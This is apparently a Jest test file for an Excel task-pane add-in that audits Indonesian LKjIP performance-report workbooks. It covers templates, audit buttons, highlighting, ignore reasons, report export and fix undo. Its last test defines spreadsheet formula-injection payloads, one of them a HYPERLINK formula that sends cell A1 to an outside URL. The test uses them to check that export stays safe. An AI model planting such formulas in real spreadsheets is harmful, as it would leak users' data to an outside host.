// The pane's buttons and the ribbon commands end to end in Node: the real Office adapter
// (src/host/office) on the in-memory Excel, the real audit and the real template plan.
import { FakeWorkbook, runFake } from "../support/fake";
import { OFFICE_ADAPTER } from "../../src/taskpane/services/host";
import { createExcelHost } from "../../src/taskpane/services/excelHost";
import { createStore } from "../../src/taskpane/state/store";
import { applyFixChoice, exportReport, ignoreFinding, runAudit, toggleHighlight, undoAppliedFix } from "../../src/taskpane/services/paneActions";
import { previewInstall, workbookOverview } from "../../src/taskpane/services/domain";
import type { HostService } from "../../src/taskpane/services/types";

let wb: FakeWorkbook;
let host: HostService;

function useWorkbook(w: FakeWorkbook): void {
  wb = w;
  (globalThis as unknown as { Excel: unknown }).Excel = { run: <T>(b: (c: Excel.RequestContext) => Promise<T>) => runFake(wb, b) };
  host = createExcelHost(OFFICE_ADAPTER);
}

async function installSample(): Promise<void> {
  await host.installTemplates({ templates: [], year: 2024, satker: "", sample: true });
}

/** Every cell's value, formula and fill, to prove an operation changed nothing. */
function dump(w: FakeWorkbook): string {
  return JSON.stringify(
    w.sheets.map((s) => ({ name: s.name, rows: s.rows, formulas: [...s.formulas], fills: [...s.fills], formats: [...s.numberFormats] })),
  );
}

beforeEach(() => useWorkbook(FakeWorkbook.from({ Sheet1: null })));

describe("Templat", () => {
  it("previews renamed sheets on a second install and never overwrites", async () => {
    await installSample();
    const before = dump(wb);
    const again = previewInstall(await host.readSnapshot(), { templates: ["capaian"], year: 2024, satker: "X", sample: false });
    expect(again.sheets).toEqual([{ name: "Capaian Kinerja (2)", original: "Capaian Kinerja" }]);
    expect(await host.installTemplates({ templates: ["capaian"], year: 2024, satker: "X", sample: false })).toBe(1);
    const after = JSON.parse(dump(wb)) as Array<{ name: string }>;
    expect(after.map((s) => s.name)).toContain("Capaian Kinerja (2)");
    // The sheets that were there are exactly as before.
    expect(JSON.stringify((JSON.parse(before) as Array<{ name: string }>))).toBe(JSON.stringify(after.filter((s) => s.name !== "Capaian Kinerja (2)")));
    const overview = workbookOverview(await host.readSnapshot());
    expect(overview.lkjipSheets.map((s) => s.name)).toContain("Capaian Kinerja (2)");
    expect(overview.otherSheets).toBe(1);
  });
});

describe("Audit buttons", () => {
  it("audits the sample without changing the workbook, and reports its contradictions", async () => {
    await installSample();
    const store = createStore();
    const before = dump(wb);
    const view = await runAudit(host, store);
    expect(dump(wb)).toBe(before);
    expect(store.get()).toMatchObject({ auditing: false, progress: { step: 3, label: "done" } });
    expect(view!.findings.filter((f) => f.severity === "error").length).toBeGreaterThan(0);
    // Seed contradiction: pagu per jenis belanja 10.062.360.000 vs LKD 9.933.860.000.
    expect(view!.findings.some((f) => f.expected === 9933860000 || f.actual === 9933860000 || f.expected === 10062360000 || f.actual === 10062360000)).toBe(true);
  });

  it("Sorot then Hapus sorotan leaves every fill as it was", async () => {
    await installSample();
    const store = createStore();
    await runAudit(host, store);
    const before = dump(wb);
    await toggleHighlight(host, store);
    expect(store.get().highlighted).toBeGreaterThan(0);
    expect(dump(wb)).not.toBe(before);
    await toggleHighlight(host, store);
    expect(store.get().highlighted).toBe(0);
    expect(dump(wb)).toBe(before);
  });

  it("Abaikan stores the reason in the workbook and the next audit marks the finding ignored", async () => {
    await installSample();
    const store = createStore();
    const view = await runAudit(host, store);
    const target = view!.findings[0];
    await ignoreFinding(host, store, target, "sudah dikoreksi di LKjIP revisi");
    expect(store.get().audit!.findings.find((f) => f.key === target.key)?.ignoredReason).toBe("sudah dikoreksi di LKjIP revisi");
    const again = await runAudit(host, createStore());
    expect(again!.findings.find((f) => f.key === target.key)?.ignoredReason).toBe("sudah dikoreksi di LKjIP revisi");
  });

  it("Ekspor writes a report sheet with links, under a free name each time", async () => {
    await installSample();
    const store = createStore();
    const view = await runAudit(host, store);
    expect(await exportReport(host, store)).toBe("Laporan Audit");
    expect(await exportReport(host, store)).toBe("Laporan Audit (2)");
    expect(wb.formula("Laporan Audit", "C2")).toBe(`=HYPERLINK("#${view!.findings[0].sheet.includes(" ") ? `'${view!.findings[0].sheet}'` : view!.findings[0].sheet}!${view!.findings[0].address}","${view!.findings[0].address}")`);
    expect(wb.value("Laporan Audit", `E${view!.findings.length + 1}`)).toBe(view!.findings[view!.findings.length - 1].message.id);
    expect(wb.value("Laporan Audit", "A1")).toBe("Tingkat");
    expect(await exportReport(host, store, "en")).toBe("Audit Report");
    expect(wb.value("Audit Report", "E2")).toBe(view!.findings[0].message.en);
    expect(wb.value("Audit Report", "A2")).toBe({ error: "Error", warning: "Warning", info: "Info" }[view!.findings[0].severity]);
  });

  // Every root cause of the whole sample is applied and re-audited in test/host/fixes.test.ts;
  // here the pane's own path (one re-audit per click) on one sheet's root causes.
  it("Terapkan on each root cause of a sheet (the pane's path) leaves it without error; Batalkan, newest first, gives back the exact workbook", async () => {
    await installSample();
    const store = createStore();
    const before = dump(wb);
    const first = await runAudit(host, store);
    expect(store.get().applied).toEqual([]);
    // Where candidates are equally good, the user picks; here the one the report's sources support.
    const chosen = new Set(["Realisasi Anggaran!N18", "Realisasi Anggaran!O18", "Realisasi Anggaran!B33"]);
    const roots = first!.findings.filter((f) => f.candidates && f.ignoredReason === undefined && f.sheet === "IKPA");
    expect(roots.length).toBe(4);
    // A consequence carries no fix of its own.
    expect(roots.flatMap((f) => f.consequences ?? []).some((c) => c.candidates)).toBe(false);
    for (const f of roots) {
      const c = f.candidates!.find((x) => chosen.has(`${x.sheet}!${x.address}`)) ?? f.candidates![0];
      expect(await applyFixChoice(host, store, c)).toBe(true);
    }
    const after = store.get().audit!.findings.filter((f) => f.sheet === "IKPA");
    expect(after.filter((f) => f.severity === "error").map((f) => `${f.sheet}!${f.address} ${f.message.en}`)).toEqual([]);
    expect(store.get().applied!.length).toBe(roots.length);
    expect(wb.value("IKPA", "E29")).toBe(94.4);
    while (store.get().applied!.length) expect(await undoAppliedFix(host, store, store.get().applied!.at(-1)!.id)).toBe(true);
    expect(dump(wb)).toBe(before);
    expect(wb.settings.has("lkjip.fixes")).toBe(false);
  });

  it("Terapkan on a protected sheet writes nothing and tells the user", async () => {
    await installSample();
    const store = createStore();
    const view = await runAudit(host, store);
    const root = view!.findings.find((f) => f.sheet === "IKPA" && f.address === "E29")!;
    wb.mustSheet("IKPA").protected = true;
    const before = dump(wb);
    expect(await applyFixChoice(host, store, root.candidates![0])).toBe(false);
    expect(dump(wb)).toBe(before);
    expect(store.get().error).toBeTruthy();
    expect(await undoAppliedFix(host, store, "IKPA!E29@never")).toBe(false);
  });

  it("puts a read failure on the store instead of throwing", async () => {
    const store = createStore();
    const broken: HostService = { ...host, readSnapshot: () => Promise.reject(new Error("Excel sibuk")) };
    expect(await runAudit(broken, store)).toBeUndefined();
    expect(store.get()).toMatchObject({ auditing: false, error: { id: "Excel sibuk", en: "Excel sibuk" } });
  });
});


describe("Ekspor never lets workbook text become a formula (the pane's own path)", () => {
  // Sheet names and ignore reasons are user text copied into the report sheet. Each would run
  // as a formula if written as is: "+HYPERLINK(…)" opens a link, "@"/"-"/"=" start formulas.
  const INJECTIONS = ['+HYPERLINK("http://x.invalid/?d="&A1;"Klik")', "=1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "'quoted"];
  const SHEETS = ["+Data", "-Data", "@Data", "=Data", "Data 5", "Data 6", "Data 7"];

  it("writes every sheet name and ignore reason as the exact text, only the links are formulas", async () => {
    // Sheets whose names start like formulas (and three more, one per reason), each with a monthly total that is off by 3.
    const book: Record<string, (string | number | null)[][]> = {};
    // Different figures per sheet: the audit reports a contradiction copied across sheets once.
    SHEETS.forEach((name, i) => (book[name] = [["Bulan", "Selesai"], ["Januari", 3 + i], ["Februari", 4], ["Maret", 5], ["Total", 15 + 2 * i]]));
    useWorkbook(FakeWorkbook.from(book));
    const store = createStore();
    const view = await runAudit(host, store);
    const bySheet = SHEETS.map((name) => view!.findings.find((f) => f.sheet === name && f.severity === "error"));
    expect(bySheet.every((f) => f !== undefined)).toBe(true);
    for (let i = 0; i < bySheet.length; i++) await ignoreFinding(host, store, bySheet[i]!, INJECTIONS[i]);

    const sheet = await exportReport(host, store);
    expect(sheet).toBe("Laporan Audit");
    const report = wb.mustSheet(sheet!);
    const findings = store.get().audit!.findings;
    for (let r = 0; r < findings.length; r++) {
      const f = findings[r];
      expect(wb.value(sheet!, `B${r + 2}`)).toBe(f.sheet);
      expect(wb.value(sheet!, `I${r + 2}`)).toBe(f.ignoredReason ?? null);
    }
    const reasons = findings.map((f) => f.ignoredReason).filter((x) => x !== undefined);
    expect(reasons.sort()).toEqual([...INJECTIONS].sort());
    // The only formulas on the sheet are column C's HYPERLINKs to the findings' cells.
    const formulaCols = [...report.formulas.keys()].map((k) => k % 16384);
    expect(new Set(formulaCols)).toEqual(new Set([2]));
    expect([...report.formulas.values()].every((f) => f.startsWith("=HYPERLINK(\"#"))).toBe(true);
  });
});
